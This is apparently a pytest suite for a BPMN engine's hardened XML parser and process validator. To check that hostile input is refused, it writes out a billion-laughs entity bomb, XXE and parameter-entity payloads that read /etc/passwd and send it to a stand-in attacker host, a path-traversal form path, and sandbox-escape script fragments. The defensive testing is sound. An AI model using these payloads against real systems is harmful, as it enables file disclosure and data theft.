"""engine.xmlsafe and engine.validate: hostile XML, the OMG MIWG reference models, and one
hand-written fixture (tests/data/bpmn/) per problem the validator must find."""
from __future__ import annotations

import json
import random
import re
import resource
import time
from pathlib import Path

import pytest
from lxml import etree

from engine.validate import Problem, Report, validate_files, validate_paths
from engine.xmlsafe import MAX_BYTES, XmlRefused, parse_bpmn_bytes

DATA = Path(__file__).resolve().parent.parent / "data"
FIXTURES = DATA / "bpmn"
MIWG = DATA / "miwg"
PROBLEM_RE = re.compile(r"^[^:]+:(\d+|\?):")
BPMN_NS = {"bpmn": "http://www.omg.org/spec/BPMN/20100524/MODEL"}


# --------------------------------------------------------------------------- helpers

def fixture_bytes(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def validate(name: str, **kwargs) -> Report:
    """Validate one fixture under its bare file name (so the file-name convention applies)."""
    kwargs.setdefault("forms_dir", None)
    return validate_files([(name, fixture_bytes(name))], **kwargs)


def line_of(name: str, element_id: str, child: str | None = None) -> int:
    """The source line of an element of a fixture (or of its first `bpmn:<child>`)."""
    tree = etree.parse(str(FIXTURES / name))
    (el,) = tree.xpath(f"//*[@id='{element_id}']")
    if child:
        el = el.find(f"bpmn:{child}", BPMN_NS)
    return el.sourceline


def text_line(name: str, fragment: str) -> int:
    """The first line of a fixture that contains `fragment`."""
    for number, line in enumerate((FIXTURES / name).read_text(encoding="utf-8").splitlines(), 1):
        if fragment in line:
            return number
    raise AssertionError(f"{fragment!r} not in {name}")


def find(report: Report, fragment: str, severity: str | None = None) -> Problem:
    hits = [p for p in report.problems if fragment in p.message and (severity is None or p.severity == severity)]
    assert hits, f"no problem containing {fragment!r} in:\n{report}"
    return hits[0]


def assert_well_formed(report: Report) -> None:
    for problem in report.problems:
        text = str(problem)
        assert PROBLEM_RE.match(text), text
        assert "Traceback" not in text and "\n" not in text, text


def requires_scripting():
    import engine.scripting
    return engine.scripting


@pytest.fixture
def forms_dir(tmp_path: Path) -> Path:
    """A forms/ directory with valid schemas for valid_process and a broken one for invalid_form."""
    root = tmp_path / "forms"
    schema = {
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "type": "object",
        "title": "审核报告",
        "properties": {"decision": {"type": "string", "title": "结论", "enum": ["accept", "reject"]}},
        "required": ["decision"],
    }
    for task in ("submit_report", "review_report"):
        path = root / "valid_process" / f"{task}.schema.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(schema, ensure_ascii=False), encoding="utf-8")
    broken = root / "invalid_form" / "broken.schema.json"
    broken.parent.mkdir(parents=True)
    broken.write_text('{"type": "object", "properties": {', encoding="utf-8")
    (root / "missing_form").mkdir()
    return root


# --------------------------------------------------------------------------- Problem / Report

def test_problem_str_has_a_consistent_form():
    assert str(Problem("a.bpmn", 12, "task_1", "bad")) == "a.bpmn:12: task_1: bad"
    assert str(Problem("a.bpmn", None, None, "bad")) == "a.bpmn:?: -: bad"
    assert str(Problem("a.bpmn", 3, None, "hm", "warning")) == "a.bpmn:3: -: warning: hm"


def test_report_properties():
    report = Report([Problem("a", 1, None, "e"), Problem("a", 2, None, "w", "warning")])
    assert [p.message for p in report.errors] == ["e"]
    assert [p.message for p in report.warnings] == ["w"]
    assert not report.ok
    assert Report([Problem("a", 2, None, "w", "warning")]).ok


# --------------------------------------------------------------------------- MIWG

MIWG_FILES = sorted(MIWG.glob("*.bpmn"))


def test_miwg_files_are_present():
    assert len(MIWG_FILES) >= 20
    assert (MIWG / "LICENSE.txt").is_file()


@pytest.mark.parametrize("path", MIWG_FILES, ids=lambda p: p.name)
def test_miwg_reference_models_get_a_report(path: Path):
    report = validate_paths([path])
    assert isinstance(report, Report)
    assert_well_formed(report)
    print(f"\n{path.name}: {len(report.errors)} errors, {len(report.warnings)} warnings, "
          f"executable processes: {report.process_ids}")
    for problem in report.errors[:10]:
        print("   ", problem)


def test_all_miwg_models_together():
    report = validate_paths(MIWG_FILES)
    assert_well_formed(report)
    # Every file is either a known MIWG process or reported.
    assert {p.file for p in report.problems} <= {str(p) for p in MIWG_FILES}


# --------------------------------------------------------------------------- hostile input

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE definitions [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">
  <bpmn:process id="p"><bpmn:documentation>&xxe;</bpmn:documentation></bpmn:process>
</bpmn:definitions>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://attacker.invalid/?x=%file;'>">
  %eval;
  %exfil;
]>
<data>x</data>
"""

RANDOM_BYTES = random.Random(20050701).randbytes(64 * 1024)  # fixed "os.urandom"

HOSTILE = [
    ("empty", lambda: b"", "the file is empty"),
    ("blank", lambda: b"  \n\t\n", "the file is empty"),
    ("random_binary", lambda: RANDOM_BYTES, "not UTF-8 text"),
    ("billion_laughs", lambda: BILLION_LAUGHS, "DOCTYPE declarations are not allowed (they enable entity attacks)"),
    ("external_entity", lambda: XXE, "DOCTYPE declarations are not allowed (they enable entity attacks)"),
    ("parameter_entity", lambda: PARAMETER_ENTITY, "DOCTYPE declarations are not allowed"),
    ("twenty_megabytes", lambda: b"<a>" + b" " * (20 * 1024 * 1024) + b"</a>", "the file is too large"),
    ("not_xml", lambda: b"This is an audit report, not a BPMN file.\n", "the file is not XML"),
    ("utf16_without_bom", lambda: '<?xml version="1.0"?><a>审核</a>'.encode("utf-16-le"), "not UTF-8 text"),
    ("utf16_with_bom", lambda: '<?xml version="1.0"?><a/>'.encode("utf-16"), "not UTF-8 text"),
    ("latin1_bytes", lambda: '<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>'.encode("latin-1"),
     "not UTF-8 text"),
    ("deep_nesting", lambda: b"<a>" * 100_000 + b"</a>" * 100_000, "nests elements too deeply"),
    ("undefined_entity", lambda: b"<a>&xxe;</a>", "entities are not allowed"),
    ("unclosed", lambda: b"<bpmn:definitions xmlns:bpmn='x'><a>", "not well-formed XML"),
]


@pytest.mark.parametrize("name,make,message", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_input_is_refused_with_a_clear_message(name, make, message):
    data = make()
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()

    with pytest.raises(XmlRefused) as refused:
        parse_bpmn_bytes(data, f"{name}.bpmn")
    assert message in refused.value.message
    assert refused.value.filename == f"{name}.bpmn"

    report = validate_files([(f"{name}.bpmn", data)], forms_dir=None)
    elapsed = time.monotonic() - started
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before

    assert not report.ok
    assert report.process_ids == []
    assert message in report.errors[0].message, str(report)
    assert_well_formed(report)
    assert "root:" not in str(report)   # nothing of /etc/passwd leaks
    assert elapsed < 10, f"took {elapsed:.1f}s"
    assert grown_kb < 300 * 1024, f"peak memory grew by {grown_kb} KB"


def test_refusal_carries_the_line():
    with pytest.raises(XmlRefused) as refused:
        parse_bpmn_bytes(b'<?xml version="1.0"?>\n<!-- x -->\n<!DOCTYPE a>\n<a/>', "d.bpmn")
    assert refused.value.line == 3
    assert str(refused.value) == "d.bpmn:3: DOCTYPE declarations are not allowed (they enable entity attacks)"


def test_safe_documents_parse():
    tree = parse_bpmn_bytes("\ufeff<?xml version='1.0' encoding='UTF-8'?><a>审核</a>".encode("utf-8"), "bom.bpmn")
    assert tree.getroot().text == "审核"
    # A declared Latin-1 over pure ASCII (as in the MIWG models) reads the same as UTF-8.
    tree = parse_bpmn_bytes(b"<?xml version='1.0' encoding='ISO-8859-1'?><!-- c --><a>x</a>", "l1.bpmn")
    assert tree.getroot().text == "x"
    assert MAX_BYTES == 5 * 1024 * 1024


def test_one_bad_file_does_not_hide_the_others():
    report = validate_files([("junk.bpmn", b"\x00\x01"), ("minimal_valid.bpmn", fixture_bytes("minimal_valid.bpmn"))],
                            forms_dir=None)
    assert report.process_ids == ["minimal_valid"]
    assert [p.file for p in report.errors] == ["junk.bpmn"]


@pytest.mark.parametrize("files", [
    [("x.bpmn", "a str, not bytes")],
    [None],
    [("a.bpmn", b"<a/>", "extra")],
    [(None, None)],
], ids=["str", "none", "triple", "nones"])
def test_malformed_arguments_never_raise(files):
    report = validate_files(files, forms_dir=None)
    assert not report.ok
    assert_well_formed(report)


def test_unreadable_paths_become_problems(tmp_path):
    report = validate_paths([tmp_path / "missing.bpmn", tmp_path])
    assert not report.ok
    assert all("cannot read the file" in p.message for p in report.errors)
    assert_well_formed(report)


def test_oversized_path_is_not_read(tmp_path):
    big = tmp_path / "big.bpmn"
    with open(big, "wb") as fh:
        fh.truncate(MAX_BYTES + 1)
    report = validate_paths([big])
    assert "the file is too large" in report.errors[0].message


# --------------------------------------------------------------------------- valid files

def test_minimal_valid_process_is_ok():
    report = validate("minimal_valid.bpmn")
    assert report.ok, str(report)
    assert report.warnings == []
    assert report.process_ids == ["minimal_valid"]
    spec = report.parser.get_spec("minimal_valid")
    assert spec.task_specs["submit_report"].lane == "enterprise"


def test_valid_process_with_scripts_forms_and_timer_is_ok(forms_dir):
    requires_scripting()
    import engine.forms  # noqa: F401
    report = validate("valid_process.bpmn", forms_dir=forms_dir)
    assert report.ok, str(report)
    assert report.process_ids == ["valid_process"]
    assert report.process_files == {"valid_process": "valid_process.bpmn"}
    spec = report.parser.get_spec("valid_process")
    assert report.parser.get_subprocess_specs("valid_process") == {}
    assert spec.task_specs["review_report"].lane == "local_epb"
    assert spec.task_specs["submit_report"].extensions["properties"]["due"] == "report_due"


def test_validate_paths_reads_files():
    report = validate_paths([FIXTURES / "minimal_valid.bpmn"])
    assert report.ok, str(report)
    assert report.process_files == {"minimal_valid": str(FIXTURES / "minimal_valid.bpmn")}


# --------------------------------------------------------------------------- errors

STRUCTURE_ERRORS = [
    # fixture, element id, expected message
    ("no_start_event.bpmn", "no_start_event", "process no_start_event has no start event"),
    ("flow_to_missing_node.bpmn", "flow_to_nowhere", "sequence flow flow_to_nowhere points to missing node dnoe"),
    ("user_task_outside_lane.bpmn", "submit_report",
     "user task submit_report is in no lane; lanes name the role that acts"),
    ("user_task_no_lanes.bpmn", "submit_report",
     "user task submit_report is in no lane; lanes name the role that acts"),
    ("lane_unknown_role.bpmn", "submit_report", "user task submit_report is in lane 'reviewer', which is not a role"),
    ("call_unknown_process.bpmn", "call_review",
     "call activity call_review calls process review_subprocess, which is neither in the files given nor deployed"),
]


@pytest.mark.parametrize("name,element_id,message", STRUCTURE_ERRORS, ids=[e[0] for e in STRUCTURE_ERRORS])
def test_structure_errors(name, element_id, message):
    report = validate(name)
    problem = find(report, message, "error")
    assert problem.element_id == element_id
    assert problem.line == line_of(name, element_id)
    assert problem.file == name
    assert str(problem).startswith(f"{name}:{problem.line}: {element_id}: ")
    assert not report.ok
    assert_well_formed(report)


def test_flow_to_missing_node_skips_spiffs_misleading_message():
    report = validate("flow_to_missing_node.bpmn")
    assert "found two items" not in str(report)
    assert len(report.errors) == 1, str(report)


def test_no_start_event_is_reported_once():
    report = validate("no_start_event.bpmn")
    assert len(report.errors) == 1, str(report)


def test_custom_roles():
    report = validate("lane_unknown_role.bpmn", roles=("reviewer",))
    assert report.ok, str(report)


def test_call_activity_to_a_deployed_process_is_accepted():
    report = validate("call_unknown_process.bpmn", known_process_ids={"review_subprocess"})
    assert report.ok, str(report)
    assert report.calls == {"call_unknown_process": ["review_subprocess"]}


def test_call_activity_to_a_process_given_alongside_is_accepted():
    files = [(n, fixture_bytes(n)) for n in ("call_unknown_process.bpmn", "review_subprocess.bpmn")]
    report = validate_files(files, forms_dir=None)
    assert report.ok, str(report)
    assert report.process_ids == ["call_unknown_process", "review_subprocess"]
    subs = report.parser.get_subprocess_specs("call_unknown_process")
    assert list(subs) == ["review_subprocess"]


def test_xsd_error_has_its_line():
    name = "xsd_error.bpmn"
    report = validate(name)
    problem = find(report, "does not match the BPMN schema", "error")
    assert "bpmn:frobnicate" in problem.message
    assert "{http" not in problem.message
    assert problem.line == text_line(name, "<bpmn:frobnicate")
    assert problem.element_id == "prepare"
    assert report.process_ids == []


def test_spiffworkflow_errors_get_element_and_line():
    name = "gateway_missing_condition.bpmn"
    report = validate(name)
    problem = find(report, "Non-default exclusive outgoing sequence flow without condition", "error")
    assert problem.element_id == "flow_accepted"
    assert problem.line == line_of(name, "flow_accepted")


def test_duplicate_process_id_across_files():
    data = fixture_bytes("minimal_valid.bpmn")
    report = validate_files([("minimal_valid.bpmn", data), ("copy.bpmn", data)], forms_dir=None)
    problem = find(report, "Duplicate process ID", "error")
    assert problem.file == "copy.bpmn"
    assert problem.element_id == "minimal_valid"


def test_missing_form_file(forms_dir):
    import engine.forms  # noqa: F401
    name = "missing_form.bpmn"
    report = validate(name, forms_dir=forms_dir)
    problem = find(report, "form file no_such_form.schema.json of user task submit_report not found", "error")
    assert problem.element_id == "submit_report"
    assert problem.line == text_line(name, "no_such_form.schema.json")


def test_invalid_form_file(forms_dir):
    import engine.forms  # noqa: F401
    name = "invalid_form.bpmn"
    report = validate(name, forms_dir=forms_dir)
    problem = find(report, "form file broken.schema.json of user task submit_report is invalid", "error")
    assert problem.element_id == "submit_report"
    assert problem.line == text_line(name, "broken.schema.json")


def test_form_path_climbing_out_is_refused(forms_dir):
    import engine.forms  # noqa: F401
    report = validate("form_path_escape.bpmn", forms_dir=forms_dir)
    problem = find(report, "form file ../../secrets/form.schema.json of user task submit_report is refused", "error")
    assert ".." in problem.message


def test_forms_are_not_checked_without_forms_dir():
    report = validate("missing_form.bpmn", forms_dir=None)
    assert report.ok, str(report)


SCRIPTS = [
    # task id, the refused construct (as the message quotes it), the fixture line holding it
    ("script_open", "open", 'open("/etc/passwd")'),
    ("script_dunder_import", "__import__", '__import__("os")'),
    ("script_eval", "eval", 'eval("1 + 1")'),
    ("script_exec", "exec", 'exec("total = 2")'),
    ("script_getattr", "getattr", 'getattr(report, "title")'),
    ("script_type", "type", "type(report)"),
    ("script_import_os", "import", "import os"),
    ("script_while", "while", "while count"),
]


@pytest.mark.parametrize("task_id,construct,fragment", SCRIPTS, ids=[s[0] for s in SCRIPTS])
def test_forbidden_script_constructs(task_id, construct, fragment):
    requires_scripting()
    name = "script_forbidden.bpmn"
    report = validate(name)
    problems = [p for p in report.errors if p.element_id == task_id]
    assert problems, str(report)
    problem = problems[0]
    assert problem.message.startswith(f"script of task {task_id}: line ")
    assert f"`{construct}`" in problem.message
    assert problem.line == text_line(name, fragment)
    assert str(problem).startswith(f"{name}:{problem.line}: {task_id}: script of task {task_id}: ")


def test_forbidden_open_message_is_plain():
    requires_scripting()
    report = validate("script_forbidden.bpmn")
    problem = find(report, "script of task script_open:")
    assert problem.message == "script of task script_open: line 1: name `open` is not allowed"


def test_bad_condition_expression():
    requires_scripting()
    name = "bad_condition.bpmn"
    report = validate(name)
    problem = find(report, "condition of sequence flow flow_accepted: line 1:", "error")
    assert problem.element_id == "flow_accepted"
    assert problem.line == text_line(name, "<bpmn:conditionExpression>")


def test_bad_timer_expression():
    requires_scripting()
    name = "bad_timer.bpmn"
    report = validate(name)
    problem = find(report, "timer expression (timeDate) of event wait_for_review: line 1:", "error")
    assert problem.element_id == "wait_for_review"
    assert problem.line == text_line(name, "<bpmn:timeDate>")


def test_bad_scope_and_due_properties():
    requires_scripting()
    name = "bad_expressions.bpmn"
    report = validate(name)
    scope = find(report, "`scope` property of user task submit_report: line 1:", "error")
    due = find(report, "`due` property of user task submit_report: line 1:", "error")
    assert "`getattr`" in scope.message and "`__import__`" in due.message
    assert scope.line == text_line(name, 'name="scope"')
    assert due.line == text_line(name, 'name="due"')
    assert scope.element_id == due.element_id == "submit_report"


# --------------------------------------------------------------------------- warnings

WARNINGS = [
    ("missing_documentation.bpmn", "submit_report", "user task submit_report has no documentation"),
    ("generated_id.bpmn", "Activity_0x1y2z3", "id Activity_0x1y2z3 looks generated by the modeler"),
    ("file_name_differs.bpmn", "audit_report_submission",
     "file name file_name_differs.bpmn differs from process id audit_report_submission"),
    ("unknown_extension.bpmn", "submit_report", "unknown extension element spiffworkflow:formSchema"),
]


@pytest.mark.parametrize("name,element_id,message", WARNINGS, ids=[w[0] for w in WARNINGS])
def test_warnings(name, element_id, message):
    report = validate(name)
    problem = find(report, message, "warning")
    assert problem.element_id == element_id
    assert problem.line is not None
    assert "warning: " in str(problem)
    assert report.ok, str(report)     # warnings do not block a deploy
    assert report.process_ids


def test_generated_ids_of_diagram_elements_are_ignored():
    data = fixture_bytes("minimal_valid.bpmn").replace(
        b"</bpmn:definitions>",
        b'<bpmndi:BPMNDiagram xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" id="BPMNDiagram_1">'
        b'<bpmndi:BPMNPlane id="BPMNPlane_1" bpmnElement="minimal_valid">'
        b'<bpmndi:BPMNShape id="submit_report_di" bpmnElement="submit_report">'
        b'<dc:Bounds xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" x="1" y="2" width="3" height="4"/>'
        b"</bpmndi:BPMNShape></bpmndi:BPMNPlane></bpmndi:BPMNDiagram></bpmn:definitions>")
    report = validate_files([("minimal_valid.bpmn", data)], forms_dir=None)
    assert report.ok and report.warnings == [], str(report)


def test_non_executable_process():
    name = "non_executable.bpmn"
    report = validate(name)
    error = find(report, f"no executable process in {name}", "error")
    assert error.element_id is None
    lane = find(report, "user task submit_report is in no lane", "warning")
    assert lane.element_id == "submit_report"
    assert report.process_ids == []


def test_same_file_name_twice():
    data = fixture_bytes("minimal_valid.bpmn")
    report = validate_files([("minimal_valid.bpmn", data), ("minimal_valid.bpmn", data)], forms_dir=None)
    find(report, "the file name minimal_valid.bpmn is given twice", "error")


def test_mangled_documents_never_raise(forms_dir):
    """Delete elements and attributes, rewrite values and texts at random (fixed seed): every
    outcome is a report of well-formed problems, never an exception or an internal error."""
    rng = random.Random(2005)
    sources = sorted(FIXTURES.glob("*.bpmn")) + MIWG_FILES[:6]
    for _ in range(150):
        src = rng.choice(sources)
        root = etree.fromstring(src.read_bytes())
        elements = [e for e in root.iter() if isinstance(e.tag, str)]
        for _ in range(rng.randint(1, 4)):
            el = rng.choice(elements)
            op = rng.random()
            if op < 0.3 and el.getparent() is not None:
                el.getparent().remove(el)
            elif op < 0.6 and el.attrib:
                del el.attrib[rng.choice(list(el.attrib))]
            elif op < 0.8 and el.attrib:
                el.set(rng.choice(list(el.attrib)), rng.choice(["", "x", "start", "..", "false", "flow_start"]))
            else:
                el.text = rng.choice(["", "while True: pass", "__import__('os')", None, "1/", "x"])
        report = validate_files([(src.name, etree.tostring(root))], forms_dir=forms_dir)
        assert_well_formed(report)
        assert not any("internal error" in p.message for p in report.problems), str(report)
